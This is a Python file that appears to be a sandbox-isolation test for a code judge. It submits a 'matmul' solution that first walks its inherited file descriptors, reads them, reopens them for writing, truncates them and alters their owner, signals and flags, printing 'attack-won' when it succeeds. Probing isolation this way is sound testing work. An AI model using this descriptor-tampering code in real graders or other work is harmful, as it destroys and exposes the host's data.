"""Uses every descriptor that it was given: reads it, reopens it for writing, changes its size, its owner and its signals.

covers = ["inherited descriptors"]
task = "matmul"
verdict = ["ACCEPTED", "RUNTIME_ERROR", "TIME_LIMIT"]
"""

import fcntl
import os
import stat

F_SETPIPE_SZ, F_ADD_SEALS, F_SETSIG = 1031, 1033, 10


def use():
    for name in os.listdir("/proc/self/fd"):
        descriptor = int(name)
        try:
            target, mode = os.readlink(f"/proc/self/fd/{name}"), os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISREG(mode) and not target.startswith("/memfd"):
            print("attack-won: holds", target)
        if stat.S_ISFIFO(mode) or stat.S_ISREG(mode):
            for flags in (os.O_RDWR, os.O_RDONLY):
                try:
                    again = os.open(f"/proc/self/fd/{name}", flags | os.O_NONBLOCK)
                    print("found", os.read(again, 1 << 12))
                    for size in (0, 1, 1 << 30):
                        os.ftruncate(again, size)
                        print("attack-won: changed the size of", target)
                except OSError:
                    pass
        for command, value in ((F_ADD_SEALS, 0xF), (fcntl.F_SETOWN, 1), (F_SETSIG, 9), (fcntl.F_SETFL, os.O_APPEND)):
            try:
                fcntl.fcntl(descriptor, command, value)
            except OSError:
                pass


def matmul(a, b):
    use()
    return a @ b
